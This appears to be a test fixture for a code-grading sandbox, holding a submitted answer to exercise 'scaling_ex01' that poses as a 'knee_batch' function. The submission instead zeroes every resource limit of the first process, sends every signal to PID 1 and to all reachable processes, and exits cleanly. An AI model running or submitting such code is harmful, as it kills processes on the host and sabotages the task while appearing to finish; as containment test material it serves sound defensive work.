"""Sets limits of the job's first process, sends it every signal, and ends by itself."""

EXERCISE = "scaling_ex01"
WANTS = ("knee_batch",)
SUBMITTED = r"""
import os, resource, signal

def knee_batch(rows, share=0.9):
    for which in range(16):
        try:
            resource.prlimit(1, which, (0, 0))
        except (OSError, ValueError):
            pass
    for pid in (1, -1):
        for number in range(1, 65):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os._exit(0)
"""
